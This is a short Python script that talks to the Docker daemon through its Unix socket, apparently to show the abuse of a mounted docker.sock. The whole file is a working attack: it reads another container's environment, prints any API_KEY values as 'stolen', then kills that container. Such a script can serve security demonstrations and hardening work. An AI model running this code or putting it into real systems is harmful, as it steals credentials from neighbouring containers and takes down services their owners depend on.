"""Asks Docker, over its socket, for the environment of another container, and has it killed."""

import http.client
import json
import socket


class Docker(http.client.HTTPConnection):
    """HTTP over Docker's Unix socket."""

    def connect(self) -> None:
        """Connect to the socket instead of a port."""
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/var/run/docker.sock")


docker = Docker("docker")
docker.request("GET", "/containers/victim/json")
for variable in json.load(docker.getresponse())["Config"]["Env"]:
    if variable.startswith("API_KEY"):
        print("stolen:", variable)
docker.request("POST", "/containers/victim/kill")
print("killed: HTTP", docker.getresponse().status)
